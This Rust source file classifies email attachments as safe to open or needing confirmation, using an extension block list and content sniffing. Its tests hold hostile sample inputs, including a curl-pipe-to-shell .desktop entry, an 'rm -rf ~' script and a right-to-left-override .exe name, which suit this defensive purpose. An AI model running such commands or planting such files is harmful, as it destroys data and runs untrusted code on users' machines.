//! How an attachment may be opened: from its name and its first bytes, never from what Exact
//! or the sender says it is.
//!
//! Why: the shell hands an opened attachment to the operating system, which picks the program by
//! the file's extension (Windows, macOS) or by its name and content (Linux). An attachment named
//! `.exe`, `.lnk`, `.desktop` or `.jar` would run, a `.html` or `.svg` would run scripts in a
//! browser, a `.docm` runs macros, and an executable named `.pdf` is trouble for a viewer that
//! trusts content over the name. Attachments come from whoever mailed the document to Exact.
//!
//! Invariants:
//! - [`OpenPolicy::Open`] only when the extension is on the allow-list *and* the content agrees:
//!   PDF, raster pictures (PNG, JPEG, GIF, WebP, BMP, TIFF; not SVG, which can hold scripts),
//!   plain text (`.txt`, `.csv`), Office documents without macros (`.docx .xlsx .pptx`, which
//!   Office refuses to open when they hold macros, so the name decides) and OpenDocument files
//!   (`.odt .ods .odp`; LibreOffice does not run their macros unless they are signed and trusted);
//! - everything else is [`OpenPolicy::Confirm`], naming what the file really is in words:
//!   programs, scripts, shortcuts, web pages, archives, legacy Office files (`.doc .xls .ppt`,
//!   which can carry macros), unknown extensions, no extension, and any mismatch;
//! - the name is read as [`safe_file_name`] leaves it, so invisible characters cannot hide the
//!   real extension; pure: the same name and bytes give the same answer.

use std::io::Read;
use std::path::Path;

use serde::Serialize;

use crate::error::{Error, Result};
use crate::file_name::safe_file_name;
use crate::sniff::{Content, SNIFF_BYTES, ZipKind, sniff};

/// A kind of file the system viewer may open without asking.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum OpenKind {
    Pdf,
    Picture,
    Text,
    /// Word, Excel or PowerPoint 2007+ without macros.
    OfficeDocument,
    OpenDocument,
}

impl OpenKind {
    /// The kind in words ("a PDF document").
    pub fn describe(self) -> &'static str {
        match self {
            OpenKind::Pdf => "a PDF document",
            OpenKind::Picture => "a picture",
            OpenKind::Text => "a text file",
            OpenKind::OfficeDocument => "an Office document",
            OpenKind::OpenDocument => "an OpenDocument file",
        }
    }

    fn accepts(self, content: Content) -> bool {
        match self {
            OpenKind::Pdf => content == Content::Pdf,
            // A photo saved as .jpg that is really a PNG is common and harmless: every viewer
            // decodes by content. The danger is code, not the wrong picture format.
            OpenKind::Picture => matches!(content, Content::Picture(_)),
            OpenKind::Text => matches!(content, Content::Text | Content::Empty),
            OpenKind::OfficeDocument => content == Content::Zip(ZipKind::Office),
            OpenKind::OpenDocument => content == Content::Zip(ZipKind::OpenDocument),
        }
    }
}

/// How the shell may open an attachment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "policy", rename_all = "snake_case")]
pub enum OpenPolicy {
    /// Hand it to the system viewer.
    Open { kind: OpenKind },
    /// Show it in its folder; open it only after the user confirms a warning that names
    /// `real_type` (the sniffed content in words: "a Windows program", "a web page", "a ZIP
    /// archive", "unknown content") and gives `reason` (one English sentence).
    Confirm { real_type: String, reason: String },
}

impl OpenPolicy {
    /// Whether the file may be opened without asking.
    pub fn opens_directly(&self) -> bool {
        matches!(self, OpenPolicy::Open { .. })
    }
}

/// Extensions opened without asking when the content agrees.
const ALLOWED: &[(&str, OpenKind)] = &[
    ("pdf", OpenKind::Pdf),
    ("png", OpenKind::Picture),
    ("jpg", OpenKind::Picture),
    ("jpeg", OpenKind::Picture),
    ("jpe", OpenKind::Picture),
    ("jfif", OpenKind::Picture),
    ("gif", OpenKind::Picture),
    ("webp", OpenKind::Picture),
    ("bmp", OpenKind::Picture),
    ("tif", OpenKind::Picture),
    ("tiff", OpenKind::Picture),
    ("txt", OpenKind::Text),
    ("csv", OpenKind::Text),
    ("docx", OpenKind::OfficeDocument),
    ("xlsx", OpenKind::OfficeDocument),
    ("pptx", OpenKind::OfficeDocument),
    ("odt", OpenKind::OpenDocument),
    ("ods", OpenKind::OpenDocument),
    ("odp", OpenKind::OpenDocument),
];

/// Extensions known to be risky, by why; the reason is shown with the confirmation.
const RISKY: &[(&[&str], &str)] = &[
    (
        &[
            "exe",
            "msi",
            "msp",
            "msix",
            "appx",
            "bat",
            "cmd",
            "com",
            "scr",
            "pif",
            "ps1",
            "psm1",
            "vbs",
            "vbe",
            "js",
            "jse",
            "mjs",
            "wsf",
            "wsh",
            "hta",
            "lnk",
            "url",
            "scf",
            "jar",
            "jnlp",
            "desktop",
            "sh",
            "bash",
            "zsh",
            "csh",
            "command",
            "tool",
            "app",
            "dmg",
            "pkg",
            "mpkg",
            "reg",
            "cpl",
            "inf",
            "msc",
            "iso",
            "img",
            "vhd",
            "vhdx",
            "appimage",
            "run",
            "deb",
            "rpm",
            "apk",
            "py",
            "pyw",
            "pl",
            "rb",
            "php",
            "application",
            "appref-ms",
            "chm",
            "gadget",
            "dll",
            "so",
            "dylib",
            "bin",
            "webloc",
            "settingcontent-ms",
        ],
        "can run programs or change settings on this computer",
    ),
    (
        &[
            "html", "htm", "xhtml", "shtml", "mht", "mhtml", "svg", "svgz", "xml", "xsl", "xslt",
        ],
        "open in a browser or viewer that can run scripts",
    ),
    (
        &[
            "docm", "xlsm", "pptm", "dotm", "xltm", "potm", "ppsm", "sldm", "xlam", "ppam", "xlsb",
            "doc", "xls", "ppt", "dot", "xlt", "pot", "pps", "xla", "rtf",
        ],
        "can carry macros or embedded objects that run code",
    ),
    (
        &["zip", "7z", "rar", "gz", "tgz", "tar", "cab", "xz", "bz2"],
        "can hold programs; look at what is inside before opening anything",
    ),
];

/// How an attachment named `file_name` (as Exact sent it or as saved) whose first bytes are
/// `head` may be opened; only the first [`SNIFF_BYTES`] bytes of `head` are looked at.
pub fn open_policy(file_name: &str, head: &[u8]) -> OpenPolicy {
    let name = safe_file_name(file_name);
    let content = sniff(head);
    let confirm = |reason: String| OpenPolicy::Confirm {
        real_type: content.describe(),
        reason,
    };
    let Some(ext) = extension(&name) else {
        return confirm(
            "The file has no extension, so the computer would have to guess how to open it."
                .to_owned(),
        );
    };
    if let Some((_, kind)) = ALLOWED.iter().find(|(e, _)| *e == ext) {
        return if kind.accepts(content) {
            OpenPolicy::Open { kind: *kind }
        } else {
            confirm(format!(
                "The file is named as {} (.{ext}) but is really {}.",
                kind.describe(),
                content.describe()
            ))
        };
    }
    match RISKY.iter().find(|(list, _)| list.contains(&ext.as_str())) {
        Some((_, why)) => confirm(format!("Files of this type (.{ext}) {why}.")),
        None => confirm(format!(
            "Exact Offline does not know files of this type (.{ext}), so it cannot tell \
             whether opening one is safe."
        )),
    }
}

/// [`open_policy`] of a file on disk, from its own name and first bytes (what the operating
/// system will see when it opens that file).
pub fn open_policy_for_file(path: &Path) -> Result<OpenPolicy> {
    let mut head = Vec::with_capacity(SNIFF_BYTES);
    std::fs::File::open(path)
        .and_then(|file| file.take(SNIFF_BYTES as u64).read_to_end(&mut head))
        .map_err(Error::io(path))?;
    let name = path.file_name().map(|n| n.to_string_lossy());
    Ok(open_policy(name.as_deref().unwrap_or(""), &head))
}

/// The lowercase extension of a safe name; `None` without one.
fn extension(name: &str) -> Option<String> {
    let (stem, ext) = name.rsplit_once('.')?;
    (!stem.is_empty() && !ext.is_empty()).then(|| ext.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The start of a ZIP whose first entry is `name` holding `data` (stored).
    fn zip(name: &str, data: &[u8]) -> Vec<u8> {
        let mut out = b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0".to_vec();
        out.extend_from_slice(&[0; 12]); // crc, sizes
        out.extend_from_slice(&(name.len() as u16).to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(data);
        out
    }

    fn png() -> Vec<u8> {
        let mut out = std::io::Cursor::new(Vec::new());
        image::DynamicImage::new_rgb8(4, 3)
            .write_to(&mut out, image::ImageFormat::Png)
            .expect("a PNG encodes");
        out.into_inner()
    }

    const PDF: &[u8] = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n";
    /// The start of a Windows program: "MZ", a DOS header full of zeros, the PE offset.
    const MZ: &[u8] = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0\xB8\0\0\0\0\0\0\0@\0";

    fn confirmed(name: &str, head: &[u8]) -> (String, String) {
        match open_policy(name, head) {
            OpenPolicy::Confirm { real_type, reason } => (real_type, reason),
            open => panic!("{name:?} must ask first, got {open:?}"),
        }
    }

    #[test]
    fn hostile_attachments_are_never_opened_directly() {
        let lnk = b"\x4C\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46\x9B\0\0\0";
        let jar = zip(
            "META-INF/MANIFEST.MF",
            b"Manifest-Version: 1.0\r\nMain-Class: X\r\n",
        );
        let docx = zip("[Content_Types].xml", b"<?xml version=\"1.0\"?><Types/>");
        let html = b"<!DOCTYPE html><html><script>location='https://evil.example'</script>";
        let svg = b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script/>";
        let cases: [(&str, &[u8], &str, &str); 13] = [
            ("setup.exe", MZ, "a Windows program", ".exe"),
            ("Factuur.lnk", lnk, "a Windows shortcut", ".lnk"),
            (
                "factuur.desktop",
                b"[Desktop Entry]\nExec=sh -c 'curl x|sh'\n",
                "plain text",
                ".desktop",
            ),
            ("factuur.jar", &jar, "a Java program", ".jar"),
            ("factuur.html", html, "a web page", "browser"),
            ("logo.svg", svg, "an SVG drawing", "scripts"),
            ("Factuur\u{202E}fdp.exe", PDF, "a PDF document", ".exe"),
            (
                "factuur.pdf",
                MZ,
                "a Windows program",
                "named as a PDF document (.pdf)",
            ),
            ("foto.png", html, "a web page", "named as a picture (.png)"),
            ("offerte.docm", &docx, "an Office document", "macros"),
            (
                "offerte.doc",
                b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0",
                "an older Office document or a Windows installer",
                "macros",
            ),
            ("README", b"hello", "plain text", "no extension"),
            (
                "data.xyz",
                b"\x01\x02\x03\x04",
                "unknown content",
                "does not know",
            ),
        ];
        for (name, head, real, why) in cases {
            let (real_type, reason) = confirmed(name, head);
            assert_eq!(real_type, real, "the real type of {name:?} is named");
            assert!(
                reason.contains(why),
                "the reason for {name:?} says {why:?}: {reason}"
            );
        }
    }

    #[test]
    fn documents_open_when_name_and_content_agree() {
        let docx = zip("[Content_Types].xml", b"<?xml version=\"1.0\"?><Types/>");
        let xlsx = zip("_rels/.rels", b"<?xml");
        let odt = zip("mimetype", b"application/vnd.oasis.opendocument.textPK");
        let cases: [(&str, Vec<u8>, OpenKind); 10] = [
            ("factuur.pdf", PDF.to_vec(), OpenKind::Pdf),
            ("FACTUUR.PDF", PDF.to_vec(), OpenKind::Pdf),
            ("foto.png", png(), OpenKind::Picture),
            ("foto.jpg", png(), OpenKind::Picture), // misnamed pictures are still pictures
            ("offerte.docx", docx, OpenKind::OfficeDocument),
            ("prijzen.xlsx", xlsx, OpenKind::OfficeDocument),
            ("brief.odt", odt, OpenKind::OpenDocument),
            (
                "notitie.txt",
                "Notitie über €5\r\n".as_bytes().to_vec(),
                OpenKind::Text,
            ),
            (
                "export.csv",
                b"BMW;Caf\xE9;\x80 12,50\r\n".to_vec(),
                OpenKind::Text,
            ), // Windows-1252
            (
                "unicode.txt",
                b"\xFF\xFEh\0i\0\r\0\n\0".to_vec(),
                OpenKind::Text,
            ), // UTF-16 LE
        ];
        for (name, head, kind) in cases {
            assert_eq!(
                open_policy(name, &head),
                OpenPolicy::Open { kind },
                "{name:?} is what it says and runs no code"
            );
        }
    }

    #[test]
    fn text_files_with_binary_content_ask_first() {
        let (real, _) = confirmed("notitie.txt", b"abc\0def");
        assert_eq!(real, "unknown content", "a NUL is not text");
        let (real, _) = confirmed("lijst.csv", b"#!/bin/sh\nrm -rf ~\n");
        assert_eq!(real, "a script");
        let (real, _) = confirmed("factuur.docx", &zip("word.exe", MZ));
        assert_eq!(
            real, "a ZIP archive",
            "a ZIP that is not an Office document"
        );
        // Only the first SNIFF_BYTES count: a program after them is not looked for.
        let mut late = vec![b'a'; SNIFF_BYTES];
        late.extend_from_slice(MZ);
        assert!(open_policy("lang.txt", &late).opens_directly());
    }
}
